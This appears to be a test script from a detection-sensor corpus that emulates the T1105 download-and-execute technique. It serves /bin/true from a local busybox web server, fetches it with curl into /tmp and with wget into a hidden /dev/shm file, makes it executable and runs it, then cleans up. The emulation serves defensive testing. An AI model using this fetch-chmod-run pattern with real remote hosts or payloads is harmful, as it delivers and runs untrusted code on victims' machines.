# techniques: T1105
# Download-and-execute: a payload fetched over HTTP into /tmp and /dev/shm, made executable and
# run. The "C2" web server is busybox httpd on 127.0.0.1:18080 serving a copy of /bin/true as
# `payload`; the dropped files have unique names and are removed.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
command -v busybox >/dev/null || exit 0

mkdir -p srv && cp /bin/true srv/payload
busybox httpd -f -p 127.0.0.1:18080 -h srv &
hpid=$!
sleep 0.3
x=/tmp/x.sensor-corpus-$$
if command -v curl >/dev/null; then
  curl -s --retry 3 --retry-connrefused http://127.0.0.1:18080/payload -o $x && chmod +x $x && $x
fi
# the same with wget into shared memory, started in the background as droppers do
y=/dev/shm/.x-sensor-corpus-$$
busybox wget -q -O $y http://127.0.0.1:18080/payload && chmod 755 $y && $y &
wait $!
kill $hpid 2>/dev/null
wait
rm -rf $x $y srv
exit 0
